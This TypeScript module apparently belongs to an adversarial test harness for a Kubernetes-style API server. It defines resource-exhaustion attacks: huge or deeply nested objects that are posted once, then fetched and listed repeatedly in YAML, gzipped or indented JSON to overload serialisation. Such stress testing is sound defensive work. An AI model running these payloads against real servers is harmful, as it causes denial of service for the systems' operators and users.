/** Attacks by answers: objects that are cheap to keep and dear to write in the encoding that the attacker asks for. */
import type { Attack, Attacker } from "./attack.js";
import { MAPS, numbers, THINGS } from "./stray-places.js";

const YAML = { accept: "application/yaml" };
const ZIPPED = { ...YAML, "accept-encoding": "gzip" };
/** As people's programs get it. */
const INDENTED = { accept: "application/json", "user-agent": "curl/8" };
const GZIP = { "accept-encoding": "gzip" };

/** Makes the object, gets and lists it many times, and deletes it. */
async function readOften(
  attacker: Attacker,
  collection: string,
  object: object,
  [plain, zipped] = [YAML, ZIPPED],
): Promise<void> {
  await attacker.post(collection, JSON.stringify({ ...object, metadata: { name: "dear" } }));
  await attacker.many(30, 15, (at) =>
    attacker.send(`${collection}/dear`, { headers: at % 2 ? plain : zipped }),
  );
  const listed = `${collection}?fieldSelector=metadata.name%3Ddear`;
  await attacker.many(14, 7, (at) => attacker.send(listed, { headers: at % 2 ? plain : zipped }));
  await attacker.send(`${collection}/dear`, { method: "DELETE", headers: plain });
}

function nested(value: unknown, depth: number): unknown {
  let outer = value;
  for (let level = 0; level < depth; level++) outer = [outer];
  return outer;
}

export const STRAY_ANSWERS: readonly Attack[] = [
  {
    name: "yaml of an object with 19,000 keys",
    run: (attacker) =>
      readOften(attacker, MAPS, {
        data: Object.fromEntries(
          numbers(19_000).map((at) => [`key-${(at * 7_919) % 19_000}`, "no"]),
        ),
      }),
  },
  {
    name: "yaml of an object with 1 MB of lines",
    run: (attacker) =>
      readOften(attacker, MAPS, {
        data: { a: "line\n".repeat(100_000), b: "\u0001 \n".repeat(60_000) },
      }),
  },
  {
    name: "yaml of 20,000 items, 900 deep",
    run: (attacker) =>
      readOften(attacker, THINGS, {
        apiVersion: "adversary.example.com/v1",
        kind: "Thing",
        any: { deep: nested(numbers(20_000), 900) },
      }),
  },
  {
    name: "indented json of 20,000 items, 900 deep",
    run: (attacker) =>
      readOften(
        attacker,
        THINGS,
        {
          apiVersion: "adversary.example.com/v1",
          kind: "Thing",
          any: { deep: nested(numbers(20_000), 900) },
        },
        [INDENTED, { ...INDENTED, ...GZIP }],
      ),
  },
];
